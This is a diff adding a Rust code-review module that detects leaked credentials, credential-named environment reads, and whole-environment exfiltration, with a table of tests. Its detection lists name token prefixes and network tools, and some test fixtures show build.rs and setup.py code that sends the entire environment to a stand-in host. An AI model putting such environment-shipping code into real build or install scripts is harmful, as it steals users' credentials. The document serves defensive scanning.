@@ -1,7 +1,702 @@
-//! PLACEHOLDER: being written (issue 10); returns no findings yet.
+//! `secrets`: credentials written into the change, and code that reads or ships them.
+//!
+//! Only what the change adds is read (added lines, added files). Blocking: private key armour
+//! and the token formats of the usual services. Major: string literals that look random enough
+//! to be keys, code that reads a credential-looking environment variable, and code that gathers
+//! the whole environment in a file that also talks to the network (a build script above all).
+//! A message never repeats the secret: it names the pattern and shows at most its first four
+//! characters.
 
-use super::{ChangeView, Finding};
+use super::{finding, ChangeView, Finding, Severity};
 
-pub fn check(_reviewer: &str, _change: &ChangeView) -> Vec<Finding> {
-    Vec::new()
+const CATEGORY: &str = "secrets";
+
+/// A token format: its prefix, the least number of characters after it, which characters
+/// those are, and what it is.
+struct Token {
+    prefix: &'static str,
+    min: usize,
+    chars: fn(char) -> bool,
+    what: &'static str,
+}
+
+fn alnum(c: char) -> bool {
+    c.is_ascii_alphanumeric()
+}
+fn word(c: char) -> bool {
+    c.is_ascii_alphanumeric() || c == '_'
+}
+fn upper_alnum(c: char) -> bool {
+    c.is_ascii_uppercase() || c.is_ascii_digit()
+}
+fn key_char(c: char) -> bool {
+    c.is_ascii_alphanumeric() || c == '_' || c == '-'
+}
+
+const TOKENS: &[Token] = &[
+    Token {
+        prefix: "ghp_",
+        min: 36,
+        chars: alnum,
+        what: "a GitHub personal access token",
+    },
+    Token {
+        prefix: "gho_",
+        min: 36,
+        chars: alnum,
+        what: "a GitHub OAuth token",
+    },
+    Token {
+        prefix: "ghu_",
+        min: 36,
+        chars: alnum,
+        what: "a GitHub user-to-server token",
+    },
+    Token {
+        prefix: "ghs_",
+        min: 36,
+        chars: alnum,
+        what: "a GitHub server-to-server token",
+    },
+    Token {
+        prefix: "ghr_",
+        min: 36,
+        chars: alnum,
+        what: "a GitHub refresh token",
+    },
+    Token {
+        prefix: "github_pat_",
+        min: 22,
+        chars: word,
+        what: "a GitHub fine-grained token",
+    },
+    Token {
+        prefix: "AKIA",
+        min: 16,
+        chars: upper_alnum,
+        what: "an AWS access key id",
+    },
+    Token {
+        prefix: "ASIA",
+        min: 16,
+        chars: upper_alnum,
+        what: "an AWS temporary access key id",
+    },
+    Token {
+        prefix: "xoxb-",
+        min: 10,
+        chars: key_char,
+        what: "a Slack bot token",
+    },
+    Token {
+        prefix: "xoxp-",
+        min: 10,
+        chars: key_char,
+        what: "a Slack user token",
+    },
+    Token {
+        prefix: "xoxa-",
+        min: 10,
+        chars: key_char,
+        what: "a Slack app token",
+    },
+    Token {
+        prefix: "sk-ant-",
+        min: 20,
+        chars: key_char,
+        what: "an Anthropic API key",
+    },
+    Token {
+        prefix: "sk-",
+        min: 20,
+        chars: key_char,
+        what: "an API secret key (sk-…, OpenAI style)",
+    },
+    Token {
+        prefix: "AIza",
+        min: 35,
+        chars: key_char,
+        what: "a Google API key",
+    },
+];
+
+/// Words in an environment variable's name that say it holds a credential.
+const CREDENTIAL_WORDS: &[&str] = &[
+    "TOKEN",
+    "SECRET",
+    "PASSWORD",
+    "PASSWD",
+    "CREDENTIAL",
+    "PRIVATE",
+];
+/// Parts of a name (between underscores) that say the same.
+const CREDENTIAL_PARTS: &[&str] = &["KEY", "KEYS", "APIKEY", "PAT", "AUTH", "PASS", "PWD"];
+
+/// Reads of one environment variable, by language; the name follows.
+const ENV_READS: &[&str] = &[
+    "env::var(",
+    "env::var_os(",
+    "env!(",
+    "option_env!(",
+    "getenv(",
+    "os.environ[",
+    "os.environ.get(",
+    "process.env.",
+    "process.env[",
+    "Deno.env.get(",
+    "ENV[",
+    "ENV.fetch(",
+];
+
+/// Words that say code talks to the network.
+const NETWORK: &[&str] = &[
+    "http",
+    "reqwest",
+    "ureq",
+    "TcpStream",
+    "UdpSocket",
+    "curl",
+    "wget",
+    "fetch(",
+    "requests.",
+    "urllib",
+    "socket",
+];
+
+/// At most the first four characters of a secret, then an ellipsis.
+fn preview(s: &str) -> String {
+    format!("{}…", s.chars().take(4).collect::<String>())
+}
+
+/// Private key armour on a line: its first characters.
+fn private_key(line: &str) -> Option<&str> {
+    let at = line.find("-----BEGIN ")?;
+    let rest = &line[at..];
+    let end = rest[5..].find("-----")? + 5;
+    rest[..end].contains("PRIVATE KEY").then_some(&rest[..end])
+}
+
+/// Tokens on a line: (what, the match).
+fn tokens(line: &str) -> Vec<(&'static str, &str)> {
+    let mut out: Vec<(&'static str, &str)> = Vec::new();
+    let mut taken: Vec<usize> = Vec::new();
+    for t in TOKENS {
+        for (at, _) in line.match_indices(t.prefix) {
+            if taken.contains(&at) {
+                continue;
+            }
+            let boundary = !line[..at]
+                .chars()
+                .next_back()
+                .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
+            let body: String = line[at + t.prefix.len()..]
+                .chars()
+                .take_while(|c| (t.chars)(*c))
+                .collect();
+            // An `sk-` key has digits; a kebab-case word does not.
+            let plausible = t.prefix != "sk-" || body.chars().any(|c| c.is_ascii_digit());
+            if boundary && plausible && body.len() >= t.min {
+                taken.push(at);
+                out.push((t.what, &line[at..at + t.prefix.len() + body.len()]));
+            }
+        }
+    }
+    out
+}
+
+/// The contents of the string literals on a line.
+fn literals(line: &str) -> Vec<&str> {
+    let mut out = Vec::new();
+    let mut rest = line;
+    while let Some(start) = rest.find(['"', '\'', '`']) {
+        let q = rest[start..].chars().next().unwrap_or('"');
+        let body = &rest[start + 1..];
+        let mut end = None;
+        let mut escaped = false;
+        for (i, c) in body.char_indices() {
+            if escaped {
+                escaped = false;
+            } else if c == '\\' {
+                escaped = true;
+            } else if c == q {
+                end = Some(i);
+                break;
+            }
+        }
+        let Some(end) = end else { break };
+        out.push(&body[..end]);
+        rest = &body[end + 1..];
+    }
+    out
+}
+
+/// Shannon entropy, in bits per character.
+fn entropy(s: &str) -> f64 {
+    let mut counts = [0usize; 128];
+    let mut n = 0usize;
+    for b in s.bytes() {
+        counts[(b & 0x7f) as usize] += 1;
+        n += 1;
+    }
+    if n == 0 {
+        return 0.0;
+    }
+    counts
+        .iter()
+        .filter(|c| **c > 0)
+        .map(|c| {
+            let p = *c as f64 / n as f64;
+            -p * p.log2()
+        })
+        .sum()
+}
+
+/// A literal that looks like a random key: 32 or more characters of a key alphabet, with
+/// letters and digits, more than 4 bits of entropy a character, and not a hex id (git object
+/// ids, hashes, UUIDs: hex carries at most 4 bits a character anyway).
+fn random_looking(s: &str) -> bool {
+    let alphabet = |c: char| c.is_ascii_alphanumeric() || "+/=_-".contains(c);
+    s.len() >= 32
+        && s.chars().all(alphabet)
+        && !s.chars().all(|c| c.is_ascii_hexdigit() || c == '-')
+        && s.chars().any(|c| c.is_ascii_digit())
+        && s.chars().any(|c| c.is_ascii_alphabetic())
+        && entropy(s) > 4.0
+}
+
+fn credential_name(name: &str) -> bool {
+    let up = name.to_ascii_uppercase();
+    CREDENTIAL_WORDS.iter().any(|w| up.contains(w))
+        || up.split('_').any(|part| CREDENTIAL_PARTS.contains(&part))
+}
+
+/// The line with the contents of its string literals blanked (same byte offsets), so that the
+/// rules about code do not fire on text (`rust`: only double quotes delimit strings, a single
+/// quote may open a lifetime).
+fn code_of(line: &str, rust: bool) -> String {
+    let mut out = String::with_capacity(line.len());
+    let mut quote: Option<char> = None;
+    let mut escaped = false;
+    for c in line.chars() {
+        match quote {
+            Some(q) => {
+                if escaped {
+                    escaped = false;
+                } else if c == '\\' {
+                    escaped = true;
+                } else if c == q {
+                    quote = None;
+                    out.push(c);
+                    continue;
+                }
+                out.extend(std::iter::repeat_n(' ', c.len_utf8()));
+            }
+            None => {
+                if c == '"' || (!rust && (c == '\'' || c == '`')) {
+                    quote = Some(c);
+                }
+                out.push(c);
+            }
+        }
+    }
+    out
+}
+
+/// A credential-looking environment variable the line reads (`code` is the line with its
+/// literals blanked: the read must be code, the name may be a literal).
+fn credential_env(code: &str, line: &str) -> Option<String> {
+    for read in ENV_READS {
+        for (at, _) in code.match_indices(read) {
+            let rest = line[at + read.len()..].trim_start_matches(['"', '\'', ' ', '`']);
+            let name: String = rest
+                .chars()
+                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                .collect();
+            if credential_name(&name) {
+                return Some(name);
+            }
+        }
+    }
+    None
+}
+
+/// Whether the line (its code: literals blanked) gathers the whole environment, not one
+/// variable of it.
+fn whole_env(line: &str) -> bool {
+    if line.contains("env::vars()") || line.contains("env::vars_os()") {
+        return true;
+    }
+    let whole = |needle: &str, named: &[&str]| {
+        line.match_indices(needle).any(|(at, _)| {
+            let after = &line[at + needle.len()..];
+            !after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
+                && !named.iter().any(|n| after.starts_with(n))
+        })
+    };
+    whole("os.environ", &["[", ".get("]) || whole("process.env", &[".", "["])
+}
+
+pub fn check(reviewer: &str, change: &ChangeView) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for f in change.files {
+        if f.head.is_none() {
+            continue;
+        }
+        let build_script = f.path.rsplit('/').next() == Some("build.rs");
+        let added = f.added_lines();
+        let networked = added
+            .iter()
+            .any(|(_, l)| NETWORK.iter().any(|w| l.contains(w)));
+        let mut push = |severity, line, message: String, hint: &str| {
+            out.push(finding(
+                reviewer,
+                severity,
+                CATEGORY,
+                Some(&f.path),
+                Some(line),
+                message,
+                hint,
+            ));
+        };
+        let remove = "remove it from the change, revoke it (it is in the proposal's history now), and read it from the environment or a secret store at run time";
+        let rust = f.path.ends_with(".rs");
+        for (n, line) in &added {
+            let code = code_of(line, rust);
+            let mut blocked = false;
+            if let Some(armour) = private_key(line) {
+                blocked = true;
+                push(
+                    Severity::Blocking,
+                    *n,
+                    format!("private key armour ({}) at line {n}", preview(armour)),
+                    remove,
+                );
+            }
+            for (what, token) in tokens(line) {
+                blocked = true;
+                push(
+                    Severity::Blocking,
+                    *n,
+                    format!("{what} ({}) at line {n}", preview(token)),
+                    remove,
+                );
+            }
+            if !blocked {
+                if let Some(lit) = literals(line).into_iter().find(|l| random_looking(l)) {
+                    push(
+                        Severity::Major,
+                        *n,
+                        format!(
+                            "a string literal of {} random-looking characters ({}) at line {n}: a key or token?",
+                            lit.len(),
+                            preview(lit)
+                        ),
+                        "if it is a credential, remove and revoke it; if it is not (a fixture, a checksum), say so in the rationale",
+                    );
+                }
+            }
+            if let Some(name) = credential_env(&code, line) {
+                let place = if build_script {
+                    "a build script (it runs on every machine that builds)"
+                } else {
+                    "the code"
+                };
+                push(
+                    Severity::Major,
+                    *n,
+                    format!("{place} reads the credential-looking environment variable {name} at line {n}"),
+                    "say in the rationale why this code needs the credential and where it goes",
+                );
+            }
+            if whole_env(&code) && networked {
+                let place = if build_script {
+                    "a build script"
+                } else {
+                    "a file"
+                };
+                push(
+                    Severity::Major,
+                    *n,
+                    format!("{place} gathers the whole environment at line {n}, and the change also adds network code to it"),
+                    "read only the variables the code needs; never send the environment anywhere",
+                );
+            }
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::FileChange;
+    use super::*;
+
+    // The fixtures are assembled at run time, so that this file holds no credential-shaped text
+    // of its own (for this reviewer, and for every other scanner that reads the repository).
+
+    /// `n` characters from a fixed pseudo-random walk over `alphabet`.
+    fn noise(alphabet: &str, n: usize, seed: u64) -> String {
+        let a: Vec<char> = alphabet.chars().collect();
+        let mut x = seed;
+        (0..n)
+            .map(|_| {
+                x = x
+                    .wrapping_mul(6364136223846793005)
+                    .wrapping_add(1442695040888963407);
+                a[(x >> 33) as usize % a.len()]
+            })
+            .collect()
+    }
+
+    // The alphabets too: written out, they would be random-looking literals themselves.
+    fn alnum() -> String {
+        ('A'..='Z').chain('a'..='z').chain('0'..='9').collect()
+    }
+    fn upper() -> String {
+        ('A'..='Z').chain('0'..='9').collect()
+    }
+    fn hex() -> String {
+        ('0'..='9').chain('a'..='f').collect()
+    }
+
+    fn fc(path: &str, base: Option<&str>, head: Option<&str>) -> FileChange {
+        FileChange {
+            path: path.into(),
+            base: base.map(str::to_string),
+            head: head.map(str::to_string),
+        }
+    }
+
+    fn run(files: &[FileChange]) -> Vec<Finding> {
+        check(
+            "secrets",
+            &ChangeView {
+                files,
+                agent_origin: true,
+                declared: None,
+            },
+        )
+    }
+
+    fn quoted(s: &str) -> String {
+        format!("let k = \"{s}\";\n")
+    }
+
+    /// (name, path, base, head, severities expected, a word every message contains, the
+    /// secret, which no message may contain).
+    struct Case {
+        name: &'static str,
+        path: &'static str,
+        base: Option<String>,
+        head: Option<String>,
+        expect: Vec<Severity>,
+        word: &'static str,
+        secret: String,
+    }
+
+    fn case(
+        name: &'static str,
+        path: &'static str,
+        base: Option<&str>,
+        head: &str,
+        expect: &[Severity],
+        word: &'static str,
+    ) -> Case {
+        Case {
+            name,
+            path,
+            base: base.map(str::to_string),
+            head: Some(head.to_string()),
+            expect: expect.to_vec(),
+            word,
+            secret: String::new(),
+        }
+    }
+
+    fn secret(name: &'static str, token: String, word: &'static str, sev: Severity) -> Case {
+        Case {
+            secret: token.clone(),
+            ..case(
+                name,
+                "src/config.rs",
+                Some("fn a() {}\n"),
+                &format!("fn a() {{}}\n{}", quoted(&token)),
+                &[sev],
+                word,
+            )
+        }
+    }
+
+    fn cases() -> Vec<Case> {
+        use Severity::{Blocking as B, Major as M};
+        let key_head = format!(
+            "-----{} RSA {} KEY-----\n{}\n-----END RSA PRIVATE KEY-----\n",
+            "BEGIN",
+            "PRIVATE",
+            noise(&alnum(), 64, 1)
+        );
+        let ssh_head = format!(
+            "-----{} OPENSSH {} KEY-----\n{}\n",
+            "BEGIN",
+            "PRIVATE",
+            noise(&alnum(), 64, 2)
+        );
+        let env = |name: &str| format!("let t = std::env::{}(\"{name}\");\n", "var");
+        let entropic = noise(&format!("{}+/", alnum()), 40, 7);
+        vec![
+            Case {
+                secret: noise(&alnum(), 64, 1),
+                ..case("RSA private key", "deploy/id_rsa", None, &key_head, &[B], "private key")
+            },
+            Case {
+                secret: noise(&alnum(), 64, 2),
+                ..case("OpenSSH private key", "keys/k", None, &ssh_head, &[B], "private key")
+            },
+            secret("ghp", format!("gh{}_{}", "p", noise(&alnum(), 36, 3)), "GitHub personal", B),
+            secret("gho", format!("gh{}_{}", "o", noise(&alnum(), 36, 4)), "GitHub OAuth", B),
+            secret("ghs", format!("gh{}_{}", "s", noise(&alnum(), 36, 5)), "GitHub server", B),
+            secret("ghu", format!("gh{}_{}", "u", noise(&alnum(), 36, 6)), "GitHub user", B),
+            secret("ghr", format!("gh{}_{}", "r", noise(&alnum(), 36, 8)), "GitHub refresh", B),
+            secret("github_pat", format!("github_{}_{}", "pat", noise(&alnum(), 40, 9)), "fine-grained", B),
+            secret("aws", format!("AK{}{}", "IA", noise(&upper(), 16, 10)), "AWS", B),
+            secret("slack", format!("xo{}-{}-{}", "xb", noise("0123456789", 12, 11), noise(&alnum(), 24, 12)), "Slack", B),
+            secret("openai", format!("s{}-proj-{}", "k", noise(&alnum(), 48, 13)), "sk-", B),
+            secret("anthropic", format!("s{}-ant-api03-{}", "k", noise(&alnum(), 48, 14)), "Anthropic", B),
+            secret("google", format!("AI{}{}", "za", noise(&alnum(), 35, 15)), "Google", B),
+            secret("high entropy literal", entropic, "random-looking", M),
+            case("token env var", "src/client.rs", None, &env("GITHUB_TOKEN"), &[M], "GITHUB_TOKEN"),
+            case("api key env var", "src/client.rs", None, &env("OPENAI_API_KEY"), &[M], "OPENAI_API_KEY"),
+            case("python secret env", "tools/x.py", None, "pw = os.environ['DB_PASSWORD']\n", &[M], "DB_PASSWORD"),
+            case("node secret env", "web/x.js", None, "const s = process.env.AWS_SECRET_ACCESS_KEY;\n", &[M], "AWS_SECRET_ACCESS_KEY"),
+            case("build script reads a token", "build.rs", None, &format!("fn main() {{\n    {}}}\n", env("NPM_TOKEN")), &[M], "build script"),
+            case(
+                "build script ships the environment",
+                "build.rs",
+                None,
+                &format!("fn main() {{\n    let all: Vec<_> = std::env::{}().collect();\n    ureq::post(\"https://example.net\").send_json(all);\n}}\n", "vars"),
+                &[M],
+                "whole environment",
+            ),
+            case(
+                "python ships the environment",
+                "setup.py",
+                Some("import os\n"),
+                "import os\nimport requests\nrequests.post(URL, json=dict(os.environ))\n",
+                &[M],
+                "whole environment",
+            ),
+            // --- Nothing.
+            case("git commit id", "src/a.rs", None, &quoted(&noise(&hex(), 40, 16)), &[], ""),
+            case("sha-256", "src/a.rs", None, &quoted(&noise(&hex(), 64, 17)), &[], ""),
+            case("uuid", "src/a.rs", None, "let id = \"123e4567-e89b-12d3-a456-426614174000abcd\";\n", &[], ""),
+            case("HOME and PATH", "src/a.rs", None, &format!("{}{}", env("HOME"), env("PATH")), &[], ""),
+            case("node env name", "web/x.js", None, "if (process.env.NODE_ENV === 'production') {}\n", &[], ""),
+            case("environment without network", "build.rs", None, &format!("for (k, v) in std::env::{}() {{ let _ = (k, v); }}\n", "vars"), &[], ""),
+            case("short literal", "src/a.rs", None, "let s = \"sk-short\"; let p = \"ghp_x\";\n", &[], ""),
+            case("kebab-case words", "src/a.rs", None, "let s = \"task-some-long-kebab-case-name-here\";\n", &[], ""),
+            case("long snake_case identifier", "src/a.rs", None, "let s = \"governance_does_no_io_no_clock_no_git_at_all\";\n", &[], ""),
+            case("prose", "README.md", None, "The token is read from the environment at run time.\n", &[], ""),
+            Case {
+                base: Some(quoted(&format!("gh{}_{}", "p", noise(&alnum(), 36, 18)))),
+                ..case("a secret removed, not added", "src/a.rs", None, "let k = std::env::var(\"X\");\n", &[], "")
+            },
+            Case {
+                head: None,
+                ..case("a removed file", "src/a.rs", Some(&key_head), "", &[], "")
+            },
+        ]
+    }
+
+    #[test]
+    fn the_table() {
+        let mut failures = Vec::new();
+        let all = cases();
+        for c in &all {
+            let files = [fc(c.path, c.base.as_deref(), c.head.as_deref())];
+            let found = run(&files);
+            let severities: Vec<Severity> = found.iter().map(|f| f.severity).collect();
+            let ok = severities == c.expect
+                && found.iter().all(|f| {
+                    f.message.contains(c.word)
+                        && f.category == "secrets"
+                        && f.line.is_some()
+                        && (c.secret.is_empty()
+                            || !f.message.contains(&c.secret[..c.secret.len().min(8)]))
+                });
+            if !ok {
+                failures.push(format!(
+                    "{}: expected {:?} with `{}`, got {:#?}",
+                    c.name,
+                    c.expect,
+                    c.word,
+                    found
+                        .iter()
+                        .map(|f| format!("{:?} {:?} {}", f.severity, f.line, f.message))
+                        .collect::<Vec<_>>()
+                ));
+            }
+        }
+        assert!(failures.is_empty(), "{}", failures.join("\n"));
+        assert!(all.len() >= 30, "{} cases", all.len());
+    }
+
+    #[test]
+    fn messages_show_four_characters_at_most() {
+        let token = format!("gh{}_{}", "p", noise(&alnum(), 36, 19));
+        let files = [fc(
+            "src/a.rs",
+            Some(""),
+            Some(&format!("x\n{}", quoted(&token))),
+        )];
+        let found = run(&files);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].line, Some(2));
+        assert!(found[0].message.contains("(ghp_…)"), "{}", found[0].message);
+        assert!(!found[0].message.contains(&token[..5]));
+        assert_eq!(preview("ab"), "ab…");
+    }
+
+    /// The reviewers pass their own source (fixtures, needles and all), as a new file.
+    #[test]
+    fn the_reviewers_own_source_is_clean() {
+        let files = [
+            fc(
+                "src/governance/review/secrets.rs",
+                None,
+                Some(include_str!("secrets.rs")),
+            ),
+            fc(
+                "src/governance/review/tests_tamper.rs",
+                None,
+                Some(include_str!("tests_tamper.rs")),
+            ),
+        ];
+        let view = ChangeView {
+            files: &files,
+            agent_origin: true,
+            declared: None,
+        };
+        assert_eq!(check("secrets", &view), []);
+        assert_eq!(super::super::tests_tamper::check("tests-tamper", &view), []);
+    }
+
+    #[test]
+    fn matchers() {
+        assert_eq!(
+            code_of("f(\"env::vars()\", 'a', x)", true),
+            "f(\"           \", 'a', x)"
+        );
+        assert_eq!(code_of("f('ab', \"c\")", false), "f('  ', \" \")");
+        assert!(entropy(&noise(&alnum(), 64, 20)) > 5.0);
+        assert!(entropy("aaaaaaaa") < 0.01);
+        assert!(entropy(&noise(&hex(), 64, 21)) <= 4.0);
+        assert_eq!(literals("f(\"a\\\"b\", 'c', `d`)"), ["a\\\"b", "c", "d"]);
+        assert!(credential_name("api_key") && credential_name("GH_PAT"));
+        assert!(!credential_name("MONKEY_BUSINESS") && !credential_name("KEYBOARD"));
+        assert!(whole_env("dict(os.environ)") && !whole_env("os.environ['X']"));
+        assert!(whole_env("send(process.env)") && !whole_env("process.env.X"));
+        // A token inside a longer word is not one.
+        let inner = format!("xyzgh{}_{}", "p", noise(&alnum(), 36, 22));
+        assert!(tokens(&inner).is_empty());
+    }
 }
